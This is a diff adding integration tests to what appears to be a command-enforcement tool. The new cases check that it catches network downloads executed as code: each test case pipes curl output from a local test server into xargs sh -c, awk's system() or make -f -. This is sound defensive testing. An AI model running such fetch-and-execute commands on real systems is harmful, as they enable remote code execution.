@@ -52,6 +52,19 @@ struct EnforceIntegrationTests {
             let loader = candidates.first { FileManager.default.isExecutableFile(atPath: $0) } ?? candidates[0]
             return "\(loader) /bin/dash -c 'eval \"$(curl -fsS http://127.0.0.1:\(port)/i.sh)\"'\n"
         },
+        // Command executors fed a download (issue #10 class 1): their children's argv is the data.
+        Threat(name: "a download fed to xargs sh -c", rule: "network-input-runs-as-inline-code") { h, port in
+            try h.write("www/c.txt", "echo pwned >> MARKERS\n")
+            return "curl -fsS http://127.0.0.1:\(port)/c.txt | xargs -I{} sh -c '{}'\n"
+        },
+        Threat(name: "a download fed to awk's system()", rule: "network-input-runs-as-inline-code") { h, port in
+            try h.write("www/c.txt", "echo pwned >> MARKERS\n")
+            return "curl -fsS http://127.0.0.1:\(port)/c.txt | awk '{ system($0) }'\n"
+        },
+        Threat(name: "a downloaded Makefile run by make -f -", rule: "network-input-runs-as-inline-code") { h, port in
+            try h.write("www/m.mk", "all:\n\techo pwned >> MARKERS\n")
+            return "curl -fsS http://127.0.0.1:\(port)/m.mk | make -s -f -\n"
+        },
         // Interpreters by content (issue #10 item 4): neither name, size nor bytes match the
         // host's file; the build-id, the runtime main calls, or the machine code do.
         Threat(name: "a copy of dash padded by a byte, under another name", rule: "disguised-interpreter") { _, _ in
